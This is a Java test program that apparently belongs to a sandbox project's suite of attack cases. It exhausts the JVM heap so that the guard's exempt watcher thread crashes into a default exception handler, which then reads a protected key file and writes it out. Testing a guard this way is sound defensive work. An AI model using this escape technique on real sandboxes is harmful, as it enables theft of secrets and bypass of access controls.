package dev.agentguard.apps.attacks;

import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;

/**
 * Issue-13 attack pass: code of the application run on a thread of the guard. The guard's own threads (the
 * child-process time-limit watcher) are exempt from checks for good. An error that escapes such a thread's
 * loop ends the thread through the JVM's uncaught-exception dispatch, which calls the application's default
 * handler on that very thread. The attacker starts a granted program that outlives its time limit (an
 * {@code echo} whose output fills the pipe nobody reads), fills the heap so that the watcher's next
 * allocation, at the deadline, fails with OutOfMemoryError, and reads the key from the default handler.
 *
 * <p>Usage: {@code GuardThreadAttack <key> <file to write what was read> <seconds to wait>}. Prints
 * {@code LEAKED on <thread>} after writing the key's bytes to the file, {@code HANDLER <thread> denied} for
 * a handler call on a thread the guard checks, and {@code HELD} when no handler read the key.
 */
public final class GuardThreadAttack {
    static volatile List<Object> hog = new ArrayList<>();
    static volatile boolean leaked;

    private GuardThreadAttack() {}

    public static void main(String[] args) throws Exception {
        Path key = Path.of(args[0]);
        Path leak = Path.of(args[1]);
        int seconds = Integer.parseInt(args[2]);
        Thread.setDefaultUncaughtExceptionHandler((thread, error) -> {
            boolean guards = thread.getName().startsWith("agentguard");
            if (guards) {
                hog = null; // room for the read
            } else {
                System.out.println("HANDLER " + thread.getName() + " " + error);
            }
            try {
                String secret = Files.readString(key, StandardCharsets.UTF_8);
                Files.writeString(leak, secret, StandardCharsets.UTF_8);
                leaked = true;
                hog = null;
                System.out.println("LEAKED on " + thread.getName() + " after " + error);
            } catch (Throwable t) {
                if (guards) {
                    System.out.println("HANDLER " + thread.getName() + " denied " + t);
                }
            }
        });
        // Two arguments of 100 KB: more than a pipe holds, so echo blocks writing until its time is up.
        String big = "x".repeat(100_000);
        Process child = new ProcessBuilder("echo", big, big).redirectErrorStream(true).start();
        waitForLeak(0); // every call it makes resolved now, while there is memory
        fill();
        waitForLeak(seconds);
        hog = null;
        System.gc();
        child.destroyForcibly();
        System.out.println(leaked ? "DONE" : "HELD");
    }

    /** Waits, with the heap full, until a handler read the key or the time is up; survives its own errors. */
    static void waitForLeak(int seconds) {
        long until = System.nanoTime() + seconds * 1_000_000_000L;
        do {
            try {
                Thread.sleep(50);
            } catch (Throwable e) {
                // this thread keeps waiting with the heap full
            }
        } while (!leaked && System.nanoTime() < until);
    }

    /** Takes every byte of the heap, in large pieces and then small ones, and keeps them. */
    static void fill() {
        List<Object> kept = hog;
        try {
            while (true) {
                kept.add(new long[4096]);
            }
        } catch (OutOfMemoryError e) {
            // now the small ones
        }
        try {
            while (true) {
                kept.add(new long[16]);
            }
        } catch (OutOfMemoryError e) {
            // full
        }
        try {
            while (true) {
                kept.add(new Object());
            }
        } catch (OutOfMemoryError e) {
            // full to the last object
        }
    }
}
